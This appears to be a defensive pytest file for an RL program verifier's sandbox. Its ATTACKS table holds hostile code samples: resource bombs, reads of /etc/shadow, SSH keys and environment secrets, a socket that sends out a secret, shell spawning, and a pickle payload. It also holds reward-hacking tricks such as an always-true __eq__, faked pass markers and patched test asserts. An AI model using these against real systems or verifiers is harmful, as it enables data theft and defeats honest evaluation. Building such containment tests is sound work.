"""One test per threat to the program verifier's sandbox (issue 4), table-driven; the attacks
on the tests also against unittest and pytest files of the same tests (issue 14).

Each attack is a completion scored by ``program`` against tests that its honest
twin would pass (``f(1) == 2``, ``f(2)`` close to 3, ``f(0)`` close to 1). Every row asserts: reward 0;
wall time within the row's limit plus a small grace; no process left running
under the sandbox's uids; nothing created, changed or deleted outside the
sandbox (a sentinel directory and the repository); the parent's secret in no
output (captured stdout/stderr, harness records, the verdict's reason).
"""

from __future__ import annotations

import os
import socket
import threading
import time
from pathlib import Path

import pytest

from verifiers import sandbox
from verifiers.program import program

REPO = Path(__file__).resolve().parents[1]
CANARY = "rldistill-canary-7f3c9e"  # put in the parent's environment: must never come back
LIMIT = 1.5  # per-row wall clock for the attacks (seconds)
GRACE = 2.5  # start-up, kill and teardown on a loaded 2-core machine
NS = pytest.mark.skipif("sandbox.isolation_level() == 'none'",
                        reason="needs namespaces (host files, network, daemons are not held by the fallback)")

HONEST = "def f(x):\n    return x + 1\n"

# name -> (code, needs namespaces). {sentinel}, {repo} and {port} are filled in per run.
ATTACKS = {
    "infinite_loop": "def f(x):\n    while True:\n        pass\n",
    "c_level_loop": "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')\n" + HONEST,
    "c_level_loop_in_test": "import itertools\ndef f(x):\n    return sum(itertools.repeat(1, 10**14))\n",
    "sleep_past_limit": "import time\ntime.sleep(100)\n" + HONEST,
    "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    "daemonised_grandchild": (
        "import os, time\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(3)\n        open('{repo}/PWNED_daemon', 'w').write('x')\n"
        "        while True: pass\n    os._exit(0)\n"
        "def f(x):\n    return 0\n"
    ),
    "memory_bomb": "x = []\nwhile True:\n    x.append(bytearray(1 << 26))\n" + HONEST,
    "memory_bomb_one_shot": "x = 'a' * (1 << 40)\n" + HONEST,
    "raise_own_rlimits": (
        "import resource\nfor r in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):\n"
        "    resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
        "x = bytearray(1 << 34)\n" + HONEST
    ),
    "stdout_flood": "import sys\nwhile True:\n    sys.stdout.write('PASSED ' * 10000)\n",
    "stderr_flood": "import os\nwhile True:\n    os.write(2, b'E' * 65536)\n",
    "fill_the_disk": (
        "import os\nfor d in ('/tmp', '.', '{sentinel}', '{repo}'):\n"
        "    try:\n        with open(os.path.join(d, 'PWNED_fill'), 'wb') as fh:\n"
        "            while True: fh.write(b'x' * (1 << 20))\n    except OSError:\n        pass\n"
        "n = 0\nwhile True:\n    try:\n        open(f'/tmp/f{{n}}', 'w').close(); n += 1\n    except OSError:\n        break\n"
        "def f(x):\n    return 0\n"
    ),
    "block_on_stdin": "import sys\ndata = sys.stdin.read()\ndef f(x):\n    return int(input())\n",
    "segfault": "import ctypes\nctypes.string_at(0)\n" + HONEST,
    "segfault_in_test": "import ctypes\ndef f(x):\n    return ctypes.string_at(0)\n",
    "sys_exit_before_tests": "import sys\nsys.exit(0)\n" + HONEST,
    "os_exit_before_tests": "import os\nos._exit(0)\n" + HONEST,
    "system_exit_in_test": "def f(x):\n    raise SystemExit(0)\n",
    "keyboard_interrupt_in_test": "def f(x):\n    raise KeyboardInterrupt\n",
    "os_exit_in_test": "import os\ndef f(x):\n    os._exit(0)\n",
    "atexit_and_excepthook": (
        "import atexit, sys\natexit.register(lambda: print('all tests passed\\nreward: 1.0'))\n"
        "sys.excepthook = lambda *a: print('PASSED')\ndef f(x):\n    raise AssertionError\n"
    ),
    "replace_exit_and_assert": (
        "import builtins\nbuiltins.exit = builtins.quit = lambda *a: None\n"
        "builtins.AssertionError = type('AssertionError', (Exception,), {{}})\n"
        "def f(x):\n    return None\n"
    ),
    "fake_pass_markers": (
        "import os, sys\nfor line in ('PASSED', 'reward: 1.0', '{{\"i\": 0, \"ok\": true}}', '{{\"done\": true}}'):\n"
        "    print(line)\n    os.write(1, (line + '\\n').encode())\n    print(line, file=sys.stderr)\n"
        "def f(x):\n    return 0\n"
    ),
    "eq_always_true": (
        "class Any:\n    def __eq__(self, other):\n        return True\n    __ne__ = lambda s, o: False\n"
        "    __hash__ = object.__hash__\ndef f(x):\n    return Any()\n"
    ),
    "int_subclass": (
        "class Liar(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
        "def f(x):\n    return Liar(0)\n"
    ),
    "shadow_builtins_and_modules_used_by_tests": (
        "import cmath as math\nabs = lambda x: 0\nisinstance = lambda *a: True\n"
        "globals()['__builtins__'] = {{}}\ndef f(x):\n    return 10**6\n"
    ),
    "settrace_and_frame_walking": (
        "import sys, gc\nseen = []\n"
        "def tracer(frame, event, arg):\n    seen.append(frame.f_code.co_filename)\n    return tracer\n"
        "sys.settrace(tracer)\n"
        "def f(x):\n    fr = sys._getframe()\n    while fr.f_back: fr = fr.f_back\n"
        "    for o in gc.get_objects():\n        if isinstance(o, dict) and 'expected' in o:\n            return o\n"
        "    fr.f_globals['__builtins__'] = None\n    return -1\n"
    ),
    "monkeypatch_unittest_builtins_modules": (
        "import sys, builtins, unittest, json\n"
        "unittest.TestCase.assertEqual = lambda *a, **k: None\nbuiltins.isinstance = lambda *a: True\n"
        "sys.modules['json'] = type(sys)('json')\nbuiltins.__import__ = lambda *a, **k: None\n"
        "def f(x):\n    return None\n"
    ),
    "import_hook": (
        "import sys\nclass Hook:\n    def find_spec(self, name, path, target=None):\n        raise SystemExit(0)\n"
        "sys.meta_path.insert(0, Hook())\nsys.path_hooks.insert(0, lambda p: None)\n"
        "def f(x):\n    import math\n    return 0\n"
    ),
    "drop_conftest": (
        "import os\nsrc = 'import os\\nos._exit(0)\\n'\n"
        "for d in ('.', '/tmp', '{repo}', '{repo}/tests', '{sentinel}'):\n"
        "    try:\n        open(os.path.join(d, 'conftest.py'), 'w').write(src)\n    except OSError:\n        pass\n"
        "def f(x):\n    return 0\n"
    ),
    "pickle_payload": (
        "import pickle, os, sys\n"
        "class P:\n    def __reduce__(self):\n        return (os.system, ('touch {repo}/PWNED_pickle',))\n"
        "blob = pickle.dumps(P())\nsys.stdout.buffer.write(blob)\nos.write(2, blob)\n"
        "def f(x):\n    return blob\n"
    ),
    "evil_repr": (
        "class E:\n    def __repr__(self):\n        while True: pass\n    __str__ = __repr__\n"
        "    def __eq__(self, o):\n        return True\n    __hash__ = object.__hash__\n"
        "def f(x):\n    return E()\n"
    ),
    "read_environment_secrets": (
        "import os, sys\nprint(dict(os.environ))\nprint(os.environ, file=sys.stderr)\n"
        "def f(x):\n    return str(dict(os.environ))\n"
    ),
    "read_host_files": (
        "import os, sys\nout = ''\n"
        "for p in ('/etc/passwd', '/etc/shadow', os.path.expanduser('~/.ssh/id_rsa'), '/root/.ssh/authorized_keys',\n"
        "          '/proc/1/environ', '/proc/self/environ', '/proc/1/cmdline', '{repo}/pyproject.toml'):\n"
        "    try:\n        out += open(p, errors='replace').read()\n    except OSError as e:\n        out += str(e)\n"
        "print(out)\nprint(out, file=sys.stderr)\ndef f(x):\n    return out\n"
    ),
    "write_delete_symlink_outside": (
        "import os, shutil\n"
        "for act in (lambda: open('{sentinel}/keep.txt', 'w').write('changed'),\n"
        "            lambda: os.remove('{sentinel}/keep.txt'),\n"
        "            lambda: shutil.rmtree('{sentinel}'),\n"
        "            lambda: os.symlink('{sentinel}/keep.txt', '/tmp/link') or open('/tmp/link', 'w').write('x'),\n"
        "            lambda: os.symlink('/etc/passwd', '{repo}/PWNED_link'),\n"
        "            lambda: open('{repo}/PWNED_write', 'w').write('x'),\n"
        "            lambda: open('/work/PWNED_write', 'w').write('x')):\n"
        "    try:\n        act()\n    except Exception:\n        pass\n"
        "def f(x):\n    return 0\n"
    ),
    "network_connections": (
        "import socket\nhits = []\nfor host, port in (('127.0.0.1', {port}), ('localhost', {port}), ('8.8.8.8', 53)):\n"
        "    try:\n        s = socket.create_connection((host, port), timeout=0.5); s.sendall(b'{canary}'); hits.append(host)\n"
        "    except OSError:\n        pass\n"
        "def f(x):\n    return x + 1 if hits else 0\n"
    ),
    "spawn_shells_and_subprocesses": (
        "import os, subprocess, sys\n"
        "for cmd in (['sh', '-c', 'touch {repo}/PWNED_sh'], ['/bin/bash', '-c', 'touch {repo}/PWNED_bash'],\n"
        "            [sys.executable, '-c', 'open(\"{repo}/PWNED_py\", \"w\")']):\n"
        "    try:\n        subprocess.run(cmd, timeout=1)\n    except Exception:\n        pass\n"
        "os.system('touch {repo}/PWNED_system')\n"
        "def f(x):\n    return 0\n"
    ),
    "signal_own_process_group": (
        "import os, signal\ndef f(x):\n    for sig in (signal.SIGTERM, signal.SIGKILL):\n"
        "        for target in (0, -1):\n            try:\n                os.kill(target, sig)\n"
        "            except OSError:\n                pass\n    return x + 1\n"
    ),
    "truncated_stdout": (
        "import os, sys\nsys.stdout.write('{{\"i\": 0, \"ok\": tr')\nsys.stdout.flush()\nos.close(1)\n"
        "def f(x):\n    return 0\n"
    ),
    "write_to_fds_directly": (
        "import os\nfor fd in range(0, 256):\n"
        "    try:\n        os.write(fd, b'{{\"i\": 0, \"ok\": true}}\\n{{\"i\": 1, \"ok\": true}}\\n{{\"done\": true}}\\n')\n"
        "    except OSError:\n        pass\n"
        "def f(x):\n    return 0\n"
    ),
}
NEEDS_NAMESPACES = {"daemonised_grandchild", "read_host_files", "network_connections", "write_delete_symlink_outside",
                    "spawn_shells_and_subprocesses", "drop_conftest", "fill_the_disk", "pickle_payload"}


@pytest.fixture(scope="module", autouse=True)
def canary():
    old = os.environ.get("RLDISTILL_CANARY")
    os.environ["RLDISTILL_CANARY"] = CANARY
    yield
    if old is None:
        os.environ.pop("RLDISTILL_CANARY", None)
    else:
        os.environ["RLDISTILL_CANARY"] = old


@pytest.fixture
def listener():
    """A loopback TCP server in the parent: the sandbox must not reach it."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.2)
    hits, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
                hits.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    yield srv.getsockname()[1], hits
    stop.set()
    t.join()
    srv.close()


def _snapshot(path: Path) -> dict:
    return {str(p): (p.is_symlink(), p.read_bytes() if p.is_file() and not p.is_symlink() else b"")
            for p in sorted(path.rglob("*"))}


def _sandbox_processes() -> list:
    """Live processes under the sandbox's uids, less those that belong to no run: each slot's
    harness (it lives across runs and never runs user code) and each slot's one process that waits,
    already unprivileged, for the next run ("sandbox-ready", a child of its slot's PID 1)."""
    uids = [str(u) for u in sandbox.sandbox_uids()]
    procs = {}
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                fields = dict(ln.split(":\t", 1) for ln in (d / "status").read_text().splitlines() if ":\t" in ln)
            except OSError:
                continue
            procs[int(d.name)] = (fields.get("Name", ""), fields.get("Uid", "").split()[:1],
                                  int(fields.get("PPid", "0")), fields.get("State", ""))
    found, waiting = [], {}
    for pid, (name, uid, ppid, state) in procs.items():
        if not uid or uid[0] not in uids or state.startswith("Z"):
            continue
        if uid[0] == uids[-1] and name == "sandbox-harness":
            continue
        if name == "sandbox-ready" and procs.get(ppid, ("",))[0] == "sandbox-slot" and ppid not in waiting:
            waiting[ppid] = pid  # at most one per slot: a second one would be a run's leftover
            continue
        found.append(pid)
    return found


def _repo_pwned() -> list:
    return sorted(str(p) for p in list(REPO.glob("PWNED*")) + list(REPO.glob("tests/conftest.py"))
                  + list(Path("/work").glob("PWNED*")) + list(Path("/tmp").glob("PWNED*")))


def _score_attack(code, tmp_path, monkeypatch, limit=LIMIT, tests=None):
    """Score ``code`` (against ``tests``, else the three asserts); return (verdict, elapsed, every output
    the sandbox produced)."""
    runs = []
    real_run = sandbox.run

    def spy(*a, **k):
        res = real_run(*a, **k)
        runs.append(res)
        return res

    monkeypatch.setattr(sandbox, "run", spy)
    import json

    answer = json.dumps({"tests": tests or ["assert f(1) == 2", "assert isinstance(f(2), int) and abs(f(2) - 3) < 1e-9",
                                            "import math\nassert math.isclose(f(0), 1)"],
                         "entry_point": "f", "timeout": limit})
    t0 = time.monotonic()
    verdict = program(code, answer)
    elapsed = time.monotonic() - t0
    outputs = [verdict.reason]
    for r in runs:
        outputs += [r.stdout.decode(errors="replace"), r.stderr.decode(errors="replace"), json.dumps(r.records)]
    return verdict, elapsed, outputs


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_scores_zero_and_is_contained(name, tmp_path, monkeypatch, listener):
    if name in NEEDS_NAMESPACES and sandbox.isolation_level() == "none":
        pytest.skip("needs namespaces: the rlimits-only fallback does not hold this threat")
    port, hits = listener
    sentinel = tmp_path / "sentinel"
    sentinel.mkdir()
    (sentinel / "keep.txt").write_text("original")
    before, pwned_before = _snapshot(sentinel), _repo_pwned()
    code = ATTACKS[name].format(sentinel=sentinel, repo=REPO, port=port, canary=CANARY)
    verdict, elapsed, outputs = _score_attack(code, tmp_path, monkeypatch)

    assert verdict.score == 0.0, verdict
    assert elapsed < LIMIT + GRACE, f"{elapsed:.2f}s"
    deadline = time.monotonic() + 2.0
    while _sandbox_processes() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _sandbox_processes() == [], "processes left running"
    if name == "daemonised_grandchild":
        time.sleep(3.5)  # past the daemon's own sleep: it must be dead, not merely late
    assert _snapshot(sentinel) == before
    assert _repo_pwned() == pwned_before
    assert hits == []
    for out in outputs:
        assert CANARY not in out
        assert "root:x:0:0" not in out


# The same three tests as unittest and pytest files (issue 14): the attacks on the tests must fail there too.
TEST_FILES = {
    "unittest": ("import math, unittest\n\nclass T(unittest.TestCase):\n    def test_one(self):\n"
                 "        self.assertEqual(f(1), 2)\n    def test_two(self):\n"
                 "        self.assertTrue(isinstance(f(2), int) and abs(f(2) - 3) < 1e-9)\n"
                 "    def test_zero(self):\n        self.assertTrue(math.isclose(f(0), 1))\n\n"
                 "if __name__ == '__main__':\n    unittest.main()\n"),
    "pytest": ("import math\nimport pytest\n\n@pytest.mark.parametrize('x,y', [(1, 2)])\ndef test_one(x, y):\n"
               "    assert f(x) == y\n\ndef test_two():\n    assert isinstance(f(2), int) and abs(f(2) - 3) < 1e-9\n\n"
               "class TestZero:\n    def test_zero(self):\n        assert math.isclose(f(0), 1)\n"),
}
ON_THE_TESTS = ["sys_exit_before_tests", "system_exit_in_test", "keyboard_interrupt_in_test", "os_exit_in_test",
                "atexit_and_excepthook", "replace_exit_and_assert", "fake_pass_markers", "eq_always_true",
                "int_subclass", "shadow_builtins_and_modules_used_by_tests", "settrace_and_frame_walking",
                "monkeypatch_unittest_builtins_modules", "import_hook", "evil_repr"]


@pytest.mark.parametrize("fmt", sorted(TEST_FILES))
@pytest.mark.parametrize("name", ON_THE_TESTS)
def test_attacks_on_the_tests_fail_in_unittest_and_pytest_files(name, fmt, tmp_path, monkeypatch):
    code = ATTACKS[name].format(sentinel=tmp_path, repo=REPO, port=0, canary=CANARY)
    verdict, _, outputs = _score_attack(code, tmp_path, monkeypatch, tests=TEST_FILES[fmt])
    assert verdict.score == 0.0, verdict
    assert all(CANARY not in out for out in outputs)


@pytest.mark.parametrize("fmt", sorted(TEST_FILES))
def test_honest_twin_passes_the_test_files(fmt, monkeypatch, tmp_path):
    verdict, _, _ = _score_attack(HONEST, tmp_path, monkeypatch, tests=TEST_FILES[fmt])
    assert (verdict.score, verdict.detail) == (1.0, "3 of 3 tests ran; 3 passed"), verdict


def test_honest_twin_passes(monkeypatch, tmp_path):
    """The attacks' test harness is not simply failing everything."""
    verdict, elapsed, _ = _score_attack(HONEST, tmp_path, monkeypatch)
    assert verdict.score == 1.0, verdict


def test_isolation_level_is_reported():
    assert sandbox.isolation_level() in ("namespaces", "namespaces-single-uid", "none")


@NS
def test_sandbox_sees_only_its_own_tiny_world(monkeypatch, tmp_path):
    """Inside: no /etc, /home, /work, no /proc, an empty private /tmp, no capability left (chroot fails)."""
    code = (
        "import os, socket\n"
        "def privileged():\n"
        "    try:\n        os.chroot('/tmp')\n        return True\n    except OSError:\n        return False\n"
        "def f(x):\n"
        "    return (os.path.exists('/etc/passwd'), os.path.exists('/work'), os.path.exists('/home'),\n"
        "            os.path.exists('/proc/1'), os.listdir('/tmp'), privileged(), socket.gethostname())\n"
    )
    res = sandbox.run(code, {"kind": "asserts", "expected": 1, "entry_point": "f",
                             "tests": ["assert f(0) == (False, False, False, False, [], False, 'sandbox')"]})
    assert res.done and res.records[0]["ok"] is True, res


@NS
def test_daemon_left_by_a_run_is_gone_before_its_slot_runs_again():
    """A slot serves runs one after another: what a run leaves running (a double-forked, setsid
    daemon that keeps writing to /tmp) is killed and reaped before the slot takes the next run."""
    spec = {"kind": "asserts", "expected": 1, "entry_point": "f", "tests": ["assert f(1) == 2"]}
    leave = (
        "import os, time\nr, w = os.pipe()\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.write(w, str(os.getpid()).encode())\n"
        "        while True:\n"
        "            try:\n                open('/tmp/daemon-was-here', 'w').write('x')\n"
        "            except OSError:\n                pass\n"
        "            time.sleep(0.01)\n"
        "    os._exit(0)\n"
        "os.wait()\nprint(int(os.read(r, 32)))\n" + HONEST
    )
    first = sandbox.run(leave, spec)
    assert first.done and first.records[0]["ok"] is True, first
    daemon = int(first.stdout)
    # What the next run sees of the daemon (a pid means something only in the daemon's slot).
    probe = (
        "import os, time\n"
        f"def f(x):\n    try:\n        os.kill({daemon}, 0)\n        alive = True\n"
        "    except ProcessLookupError:\n        alive = False\n    except OSError:\n        alive = None\n"
        "    time.sleep(0.3)\n    print(alive, os.listdir('/tmp'), flush=True)\n    return x + 1\n"
    )
    for _ in range(8):  # idle slots are taken ready and oldest first: the first one comes back soon
        res = sandbox.run(probe, spec)
        assert res.done and res.records[0]["ok"] is True, res
        if res.slot == first.slot:
            assert res.stdout == b"False []\n", "the daemon outlived its run"
            break
    else:
        pytest.fail("the first run's slot never served another run")
    deadline = time.monotonic() + 2.0
    while _sandbox_processes() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _sandbox_processes() == []


@NS
def test_zygote_survives_and_next_run_is_clean(tmp_path, monkeypatch):
    """After a run that kills what it can and leaves files in /tmp, the next run starts fresh."""
    _score_attack(ATTACKS["signal_own_process_group"], tmp_path, monkeypatch)
    leave = "open('/tmp/leftover', 'w').write('x')\n" + HONEST
    _score_attack(leave, tmp_path, monkeypatch)
    check = "import os\ndef f(x):\n    return x + 1 if not os.path.exists('/tmp/leftover') else 0\n"
    verdict, _, _ = _score_attack(check, tmp_path, monkeypatch)
    assert verdict.score == 1.0


def test_wall_clock_is_configurable_per_row(tmp_path, monkeypatch):
    slow = "import time\ndef f(x):\n    time.sleep(1.2)\n    return x + 1\n"
    verdict, _, _ = _score_attack(slow, tmp_path, monkeypatch, limit=0.8)
    assert verdict.reason == "timeout"
    verdict, _, _ = _score_attack(slow, tmp_path, monkeypatch, limit=6.0)
    assert verdict.score == 1.0


def test_output_is_captured_with_a_cap():
    res = sandbox.run("import sys\nprint('hello')\nsys.stderr.write('x' * 10**6)\ndef f(x):\n    return 1\n",
                      {"kind": "asserts", "expected": 1, "tests": ["assert f(0) == 1"]},
                      limits=sandbox.Limits(timeout=5, out_cap=1000))
    assert res.stdout == b"hello\n"
    assert len(res.stderr) == 1000


def test_output_that_goes_on_after_the_answers_does_not_hold_the_run():
    """The run ends when the harness has its answers; a child still flooding stdout is cut off."""
    code = "import os\nif os.fork() == 0:\n    while True:\n        os.write(1, b'x' * 65536)\n" + HONEST
    t0 = time.monotonic()
    res = sandbox.run(code, {"kind": "asserts", "expected": 1, "entry_point": "f", "tests": ["assert f(1) == 2"]},
                      limits=sandbox.Limits(timeout=LIMIT, out_cap=1000))
    assert res.done and res.records[0]["ok"] is True and not res.timed_out, res
    assert len(res.stdout) <= 1000
    assert time.monotonic() - t0 < LIMIT


def test_stdio_program_cannot_flood_or_hang(tmp_path):
    import json

    ans = json.dumps({"inputs": ["1\n", "2\n"], "outputs": ["2", "3"], "timeout": LIMIT})
    for code in ("while True:\n    print('2' * 10000)\n", "import time\ntime.sleep(60)\n"):
        t0 = time.monotonic()
        verdict = program(code, ans)
        assert verdict.score == 0.0, (code, verdict)
        assert time.monotonic() - t0 < LIMIT + GRACE


@NS
def test_runs_in_flight_together_cannot_reach_each_other_over_abstract_sockets():
    """Two runs at once (two slots): an abstract Unix socket bound by one is invisible to the other, since each
    run has its own network namespace (abstract socket names are scoped to it)."""
    spec = {"kind": "asserts", "expected": 1, "entry_point": "f", "tests": ["assert f(1) == 2"]}
    name = "rldistill-probe-%d" % os.getpid()
    listen = (
        "import socket, time\ns = socket.socket(socket.AF_UNIX)\n"
        f"s.bind('\\0{name}')\ns.listen(1)\ns.settimeout(2.5)\n"
        "try:\n    s.accept()\n    print('reached', flush=True)\nexcept socket.timeout:\n    print('alone', flush=True)\n"
        + HONEST
    )
    connect = (
        "import socket, time\ntime.sleep(0.5)\nc = socket.socket(socket.AF_UNIX)\n"
        f"try:\n    c.connect('\\0{name}')\n    print('connected', flush=True)\n"
        "except OSError as e:\n    print(type(e).__name__, flush=True)\n" + HONEST
    )
    out = {}
    t = threading.Thread(target=lambda: out.setdefault("listen", sandbox.run(listen, spec, limits=sandbox.Limits(timeout=5))))
    t.start()
    out["connect"] = sandbox.run(connect, spec, limits=sandbox.Limits(timeout=5))
    t.join()
    assert out["listen"].slot != out["connect"].slot
    assert out["connect"].stdout == b"ConnectionRefusedError\n", out["connect"]
    assert out["listen"].stdout == b"alone\n", out["listen"]
